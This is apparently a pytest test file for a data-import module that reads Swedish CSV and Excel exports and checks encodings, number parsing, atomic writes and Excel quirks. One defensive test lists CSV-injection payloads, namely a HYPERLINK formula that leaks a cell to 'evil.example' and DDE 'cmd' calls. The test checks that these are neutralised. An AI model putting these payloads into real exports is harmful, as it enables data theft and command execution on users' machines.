"""Tests of analysis.io: reading CSV/.xlsx exports as people have them, numbers, files.

Expected rows are counted by hand in the fixtures (the header is row 1, as in Excel).
"""

from __future__ import annotations

import datetime as dt
import os

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis import io
from analysis.io import DataError


def read_problems(path):
    with pytest.raises(DataError) as info:
        io.read_table(path)
    return info.value.problems


# --------------------------------------------------------------------------- encodings


def test_cp1252_swedish_letters_survive(tmp_path):
    path = tmp_path / "teams.csv"
    path.write_bytes("namn;ort\nÅsa Öberg;Nässjö\nÄlva;Värnamo\n".encode("cp1252"))
    frame = io.read_table(path)
    assert frame["namn"].tolist() == ["Åsa Öberg", "Älva"]
    assert frame["ort"].tolist() == ["Nässjö", "Värnamo"]
    assert frame["_row"].tolist() == [2, 3]


def test_utf8_with_bom(tmp_path):
    path = tmp_path / "teams.csv"
    path.write_bytes("\ufeffTeam_ID;Namn\r\nnassjo;Nässjö\r\n".encode())
    frame = io.read_table(path)
    assert list(frame.columns) == ["team_id", "namn", "_row"]  # BOM gone, lower-case
    assert frame["namn"].tolist() == ["Nässjö"]


@pytest.mark.parametrize("byte", [b"\x81", b"\x8d", b"\x8f", b"\x90", b"\x9d"])
def test_neither_utf8_nor_cp1252(tmp_path, byte):
    path = tmp_path / "observations.csv"
    path.write_bytes(b"team_id;note\nnassjo;ok\nattarp;bad" + byte + b"text\n")
    [problem] = read_problems(path)
    assert problem.file == "observations.csv"
    assert (problem.row, problem.column) == (3, "note")
    assert "neither valid UTF-8 nor Windows-1252" in problem.message
    assert f"0x{byte[0]:02X}" in problem.message and "line 3" in problem.message
    assert "UTF-8" in problem.hint


def test_utf16_unicode_text_from_excel(tmp_path):
    path = tmp_path / "teams.csv"
    path.write_bytes("namn\tort\r\nÅsa\tNässjö\r\n".encode("utf-16"))  # with BOM, tabs
    frame = io.read_table(path)
    assert frame["ort"].tolist() == ["Nässjö"]


def test_mixed_utf8_and_cp1252(tmp_path):
    path = tmp_path / "teams.csv"
    # line 2 saved as Windows-1252, line 3 pasted in as UTF-8
    path.write_bytes(b"namn\nN\xe4ssj\xf6\nJ\xc3\xb6nk\xc3\xb6ping\n")
    [problem] = read_problems(path)
    assert problem.row == 3 and "mixes UTF-8 and Windows-1252" in problem.message


# --------------------------------------------------------------------------- empty files


def test_empty_file(tmp_path):
    path = tmp_path / "changes.csv"
    path.write_bytes(b"")
    [problem] = read_problems(path)
    assert (problem.file, problem.row, problem.column) == ("changes.csv", None, None)
    assert problem.message == "the file is empty"


def test_whitespace_only_file_is_empty(tmp_path):
    path = tmp_path / "changes.csv"
    path.write_bytes(b"\r\n \r\n")
    [problem] = read_problems(path)
    assert problem.message == "the file is empty"


def test_header_only_gives_empty_frame(tmp_path):
    path = tmp_path / "changes.csv"
    path.write_text("team_id;change_no\n", encoding="utf-8")
    frame = io.read_table(path)
    assert frame.empty and list(frame.columns) == ["team_id", "change_no", "_row"]


# --------------------------------------------------------------------------- separators


def test_semicolon_with_decimal_comma(tmp_path):
    path = tmp_path / "obs.csv"
    path.write_text("measure;value\nnarvaro;12,5\nsms;1 234,5\n", encoding="utf-8")
    frame = io.read_table(path)
    assert frame["value"].tolist() == ["12,5", "1 234,5"]  # strings; parsed by the schema
    assert [io.parse_number(v) for v in frame["value"]] == [12.5, 1234.5]


def test_comma_separated_with_quoted_decimal_comma(tmp_path):
    path = tmp_path / "obs.csv"
    path.write_text('measure,value,note\nnarvaro,"12,5","a; b"\nsms,3,\n', encoding="utf-8")
    frame = io.read_table(path)
    assert frame["value"].tolist() == ["12,5", "3"]
    assert frame["note"].tolist()[0] == "a; b"
    assert pd.isna(frame["note"].tolist()[1])


def test_semicolon_detected_even_when_header_has_quoted_comma(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text('"a, b";c\n1;2\n', encoding="utf-8")
    assert list(io.read_table(path).columns) == ["a, b", "c", "_row"]


def test_unquoted_decimal_comma_in_comma_file_is_reported(tmp_path):
    path = tmp_path / "obs.csv"
    path.write_text("measure,value\nnarvaro,12\nsms,12,5\n", encoding="utf-8")
    [problem] = read_problems(path)
    assert (problem.file, problem.row) == ("obs.csv", 3)
    assert "decimal comma" in problem.hint


def test_header_missing_a_name_is_one_problem_and_frame_is_kept(tmp_path):
    path = tmp_path / "obs.csv"
    path.write_text("a;b\n1;2;3\n4;5;6\n7;8;9\n", encoding="utf-8")
    frame, problems = io.read_table_problems(path)
    [problem] = problems
    assert (problem.row, problem.column) == (2, None)
    assert "3 rows" in problem.message and "2, 3, 4" in problem.message
    assert frame is not None and frame.attrs.get("misaligned")


def test_blank_lines_and_multiline_cells_keep_excel_row_numbers(tmp_path):
    path = tmp_path / "changes.csv"
    path.write_text('id;text\n1;"two\nlines"\n\n3;x\n', encoding="utf-8")
    frame = io.read_table(path)
    # Excel: row 2 holds the two-line cell, row 3 is blank, row 4 holds id 3
    assert frame["_row"].tolist() == [2, 4]
    assert frame["text"].tolist() == ["two\nlines", "x"]


def test_cells_are_stripped_and_blank_is_na(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text(" A ;B\n  x ;   \n", encoding="utf-8")
    frame = io.read_table(path)
    assert list(frame.columns) == ["a", "b", "_row"]
    assert frame["a"].tolist() == ["x"] and frame["b"].isna().all()


def test_duplicate_and_unnamed_columns(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("a;A;;b\n1;2;3;4\n", encoding="utf-8")
    problems = read_problems(path)
    assert {(p.row, p.column) for p in problems} == {(1, "a"), (1, None)}


def test_xlsx_saved_with_csv_name(tmp_path):
    path = tmp_path / "teams.csv"
    path.write_bytes(b"PK\x03\x04rest-of-zip")
    [problem] = read_problems(path)
    assert "Excel workbook" in problem.message


# --------------------------------------------------------------------------- xlsx


def write_xlsx(path, rows, second_sheet=None):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if second_sheet:
        book.create_sheet("other").append(second_sheet)
    book.save(path)
    return path


def test_xlsx_first_sheet_dates_numbers_rows(tmp_path):
    path = write_xlsx(
        tmp_path / "teams.xlsx",
        [
            [" Team_ID", "Start", "Cohort", "Share", "Code"],
            ["nassjo", dt.datetime(2019, 9, 1), 2019, 0.9, 682],
            [None, None, None, None, None],  # blank row 3
            ["attarp", dt.datetime(2019, 8, 19, 13, 30), 2019.0, 12.5, "0680"],
        ],
        second_sheet=["not", "read"],
    )
    frame = io.read_table(path)
    assert list(frame.columns) == ["team_id", "start", "cohort", "share", "code", "_row"]
    assert frame["_row"].tolist() == [2, 4]
    assert frame["start"].tolist() == ["2019-09-01", "2019-08-19 13:30:00"]
    assert frame["cohort"].tolist() == ["2019", "2019"]
    assert frame["share"].tolist() == ["0.9", "12.5"]
    assert frame["code"].tolist() == ["682", "0680"]


def test_xlsx_excel_error_cell(tmp_path):
    path = write_xlsx(tmp_path / "obs.xlsx", [["a", "b"], [1, 2], [3, "#DIV/0!"]])
    [problem] = read_problems(path)
    assert (problem.file, problem.row, problem.column) == ("obs.xlsx", 3, "b")


def test_xlsx_not_a_workbook(tmp_path):
    path = tmp_path / "teams.xlsx"
    path.write_text("hello", encoding="utf-8")
    [problem] = read_problems(path)
    assert problem.file == "teams.xlsx" and "Excel" in problem.message


def test_empty_xlsx_sheet(tmp_path):
    path = write_xlsx(tmp_path / "teams.xlsx", [])
    [problem] = read_problems(path)
    assert problem.message == "the file is empty"


# --------------------------------------------------------------------------- numbers


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("12,5", 12.5),
        ("12.5", 12.5),
        ("1 234,5", 1234.5),
        ("1\u00a0234,5", 1234.5),  # no-break space, as Excel writes Swedish thousands
        ("1\u202f234", 1234.0),  # narrow no-break space
        ("1.234,5", 1234.5),
        ("1,234.5", 1234.5),
        ("1.234.567", 1234567.0),
        ("\u22123,5", -3.5),  # Unicode minus sign
        ("-0,9", -0.9),
        ("+2", 2.0),
        ("1e3", 1000.0),
        (7, 7.0),
    ],
)
def test_parse_number(text, expected):
    assert io.parse_number(text) == expected


@pytest.mark.parametrize("blank", [None, "", "  ", pd.NA, float("nan")])
def test_parse_number_blank_is_nan(blank):
    assert pd.isna(io.parse_number(blank))


@pytest.mark.parametrize("text", ["12 %", "abc", "1,2,3,4x", "12-3", "--1"])
def test_parse_number_rejects_text(text):
    with pytest.raises(ValueError):
        io.parse_number(text)


def test_parse_numbers_marks_bad_cells():
    values, bad = io.parse_numbers(pd.Series(["1,5", None, "x"], dtype="str"))
    assert values.iloc[0] == 1.5 and values.iloc[1:].isna().all()
    assert bad.tolist() == [False, False, True]


# --------------------------------------------------------------------------- files


def test_find_table(tmp_path):
    assert io.find_table(tmp_path, "teams") is None
    (tmp_path / "~$Teams.xlsx").write_bytes(b"lock")  # Excel's lock file is ignored
    (tmp_path / "Teams.CSV").write_text("x\n")
    assert io.find_table(tmp_path, "teams").name == "Teams.CSV"
    (tmp_path / "teams.xlsx").write_bytes(b"")
    with pytest.raises(DataError) as info:
        io.find_table(tmp_path, "teams")
    assert "both" in str(info.value)
    assert io.find_table(tmp_path / "missing", "teams") is None


def test_sha256_of_abc(tmp_path):
    path = tmp_path / "abc.txt"
    path.write_bytes(b"abc")
    # FIPS 180-2, appendix B.1: SHA-256("abc")
    assert io.sha256(path) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"


def test_write_atomic_text_and_bytes(tmp_path):
    target = tmp_path / "sub" / "out.txt"
    io.write_atomic(target, "Nässjö\n")
    assert target.read_text(encoding="utf-8") == "Nässjö\n"
    io.write_atomic(target, b"\x00\x01")
    assert target.read_bytes() == b"\x00\x01"
    assert [p.name for p in target.parent.iterdir()] == ["out.txt"]  # no temporary files left
    umask = os.umask(0)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's private 0600


def test_atomic_path_failure_keeps_old_file(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("old")
    with pytest.raises(RuntimeError), io.atomic_path(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("crash while writing")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_write_parquet_atomic_round_trip(tmp_path):
    frame = pd.DataFrame({"a": pd.Series(["x", None], dtype="str"), "b": [1.5, 2.0]})
    path = io.write_parquet_atomic(frame, tmp_path / "t.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(path), frame)


def test_atomic_dir_replaces_whole_folder_or_nothing(tmp_path):
    target = tmp_path / "processed"
    with io.atomic_dir(target) as tmp:
        (tmp / "a.txt").write_text("1")
    assert [p.name for p in target.iterdir()] == ["a.txt"]
    with pytest.raises(RuntimeError), io.atomic_dir(target) as tmp:
        (tmp / "b.txt").write_text("2")
        raise RuntimeError("validation failed")
    assert [p.name for p in target.iterdir()] == ["a.txt"]
    with io.atomic_dir(target) as tmp:
        (tmp / "c.txt").write_text("3")
    assert [p.name for p in target.iterdir()] == ["c.txt"]
    assert [p.name for p in tmp_path.iterdir()] == ["processed"]


def test_problem_text_names_file_row_column():
    problem = io.Problem(
        "observations.csv",
        "the denominator is 0",
        row=14,
        column="denominator",
        hint="delete the row",
    )
    assert str(problem) == (
        "observations.csv row 14, column 'denominator': the denominator is 0 (delete the row)"
    )
    assert (
        io.sort_problems([io.Problem("b", "x", 2), io.Problem("a", "y", 9), io.Problem("a", "z")])[
            0
        ].message
        == "z"
    )


# --------------------------------------------------------------------------- properties


@settings(max_examples=60, deadline=None)
@given(
    st.decimals(
        min_value=-(10**9), max_value=10**9, places=2, allow_nan=False, allow_infinity=False
    )
)
def test_parse_number_reads_swedish_formatting(number):
    # Swedish style as Excel shows it: no-break space between thousands, decimal comma
    text = f"{number:,.2f}".replace(",", "\u00a0").replace(".", ",")
    assert io.parse_number(text) == pytest.approx(float(number), abs=1e-9)


CELL = (
    st.text(alphabet='abcåäöÅÄÖé 0123456789;,"\n', min_size=1, max_size=12)
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=40, deadline=None)
@given(
    rows=st.lists(st.tuples(CELL, CELL), min_size=1, max_size=6),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
    sep=st.sampled_from([";", ","]),
)
def test_read_table_round_trips_what_csv_writes(tmp_path_factory, rows, encoding, sep):
    import csv as csv_module
    import io as std_io

    buffer = std_io.StringIO(newline="")
    writer = csv_module.writer(buffer, delimiter=sep, lineterminator="\r\n")
    writer.writerow(["Namn", "Ort"])
    writer.writerows(rows)
    path = tmp_path_factory.mktemp("rt") / "t.csv"
    path.write_bytes(buffer.getvalue().encode(encoding))
    frame = io.read_table(path)
    assert list(frame.columns) == ["namn", "ort", "_row"]
    assert list(zip(frame["namn"], frame["ort"], strict=True)) == rows


# ------------------------------------------------------------------ CSV for Excel (issue 19)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
            '\'=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("-3,5", "-3,5"),
        ("+46 36 10 10 00", "'+46 36 10 10 00"),
        ("1 234,5", "1 234,5"),
        ("sjukdomsutbrott vecka 7", "sjukdomsutbrott vecka 7"),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(cell, written):
    """OWASP's rule for CSV injection: a leading ' makes Excel show the cell as text."""
    assert io.neutralise_formula(cell) == written
    assert io.restore_formula(io.neutralise_formula(cell)) == cell


def test_excel_safe_leaves_numbers_and_dates_alone():
    frame = pd.DataFrame(
        {
            "note": ["=1+1", "bra"],
            "value": [-3.0, 2.0],
            "period": pd.to_datetime(["2024-01-01", "2024-01-08"]),
        }
    )
    safe = io.excel_safe(frame)
    assert list(safe["note"]) == ["'=1+1", "bra"]
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    pd.testing.assert_series_equal(safe["period"], frame["period"])
    assert list(frame["note"]) == ["=1+1", "bra"]  # the input is not changed


def test_mixed_encodings_name_the_excel_row_of_both_parts(tmp_path):
    """Issue 19: with a quoted cell over two lines before it, the line of the mixed-up letter is
    not its row; the message names the row as Excel shows it, its column, and the row that is
    Windows-1252."""
    path = tmp_path / "teams.csv"
    path.write_bytes(b'namn;aim\nN\xe4ssj\xf6;"rad ett\nrad tv\xe5"\nJ\xc3\xb6nk\xc3\xb6ping;ok\n')
    [problem] = read_problems(path)
    assert (problem.row, problem.column) == (3, "namn")  # line 4 of the file
    assert "'Ã¶' in row 3" in problem.message and "row 2 is Windows-1252" in problem.message


# ------------------------------------------------------------------ Excel quirks (issue 19)


def test_a_formula_without_its_saved_result_is_named_not_called_empty(tmp_path):
    """openpyxl, like many export tools, writes formulas without their result: read as values
    such a cell is empty. The problem says what it is and what to do."""
    path = write_xlsx(
        tmp_path / "observations.xlsx", [["team_id", "value"], ["a", "=1+1"], ["b", 3]]
    )
    [problem] = read_problems(path)
    assert (problem.row, problem.column) == (2, "value")
    assert "formula =1+1 but not its result" in problem.message and "save it" in problem.hint


def test_merged_cells_in_the_data_are_named(tmp_path):
    import openpyxl

    path = write_xlsx(
        tmp_path / "observations.xlsx", [["team_id", "value"], ["nassjo", 1], [None, 2], [None, 3]]
    )
    book = openpyxl.load_workbook(path)
    book.active.merge_cells("A2:A4")
    book.save(path)
    [problem] = read_problems(path)
    assert (problem.row, problem.column) == (2, "team_id")
    assert "cells A2:A4 are merged: only A2 holds the value" in problem.message
    assert "unmerge" in problem.hint


def test_a_hidden_first_sheet_is_not_read_silently(tmp_path):
    import openpyxl

    path = write_xlsx(tmp_path / "teams.xlsx", [["list"], ["x"]], second_sheet=["team_id"])
    book = openpyxl.load_workbook(path)
    book.worksheets[0].sheet_state = "hidden"
    book.save(path)
    [problem] = read_problems(path)
    assert "first sheet 'Sheet' is hidden" in problem.message and "'other'" in problem.hint


def test_data_on_the_second_sheet_is_pointed_at(tmp_path):
    from analysis import schemas

    empty_first = write_xlsx(tmp_path / "teams.xlsx", [], second_sheet=["team_id", "team_name"])
    [problem] = read_problems(empty_first)
    assert (
        "first sheet 'Sheet' is empty" in problem.message
        and "on the sheet 'other'" in problem.message
    )
    # the first sheet holds something else: the missing column is found on the other sheet
    path = write_xlsx(
        tmp_path / "measures.xlsx",
        [["anteckning"], ["x"]],
        second_sheet=["measure_id", "team_id", "measure_name"],
    )
    _, problems = schemas.check_columns("measures", io.read_table(path), "measures.xlsx")
    missing = {p.column: p for p in problems}
    assert (
        "'measure_id' is on the sheet 'other': drag that sheet to the first place"
        in missing["measure_id"].hint
    )
    assert (
        "only the first sheet ('Sheet') is read (the file also has 'other')"
        in missing["chart"].hint
    )


def test_code_hash_changes_with_any_source_file_and_ignores_caches(tmp_path):
    from analysis.io import code_files, code_hash

    (tmp_path / "pkg" / "sub").mkdir(parents=True)
    (tmp_path / "pkg" / "a.py").write_text("x = 1\n")
    (tmp_path / "pkg" / "sub" / "b.yml").write_text("k: v\n")
    (tmp_path / "pkg" / "__pycache__").mkdir()
    before = code_hash(tmp_path / "pkg")
    (tmp_path / "pkg" / "__pycache__" / "a.cpython-311.pyc").write_bytes(b"\0")
    (tmp_path / "pkg" / "notes.txt").write_text("not code")
    assert code_hash(tmp_path / "pkg") == before
    assert set(code_files(tmp_path / "pkg")) == {"a.py", "sub/b.yml"}
    (tmp_path / "pkg" / "sub" / "b.yml").write_text(
        "k: w\n"
    )  # any module, not a list named by hand
    assert code_hash(tmp_path / "pkg") != before


def test_write_files_atomic_writes_all_or_nothing(tmp_path):
    from analysis.io import write_files_atomic

    (tmp_path / "a.csv").write_bytes(b"old")
    with pytest.raises(TypeError):
        write_files_atomic(
            tmp_path, {"a.csv": b"new", "sub/b.csv": None}
        )  # the second cannot be written
    assert (tmp_path / "a.csv").read_bytes() == b"old" and not (tmp_path / "sub" / "b.csv").exists()
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == [
        "a.csv"
    ]  # no temporary left
    written = write_files_atomic(tmp_path, {"a.csv": b"new", "sub/b.csv": b"b"}, fsync=True)
    assert written == [tmp_path / "a.csv", tmp_path / "sub" / "b.csv"]
    assert (tmp_path / "a.csv").read_bytes() == b"new" and (
        tmp_path / "sub" / "b.csv"
    ).read_bytes() == b"b"
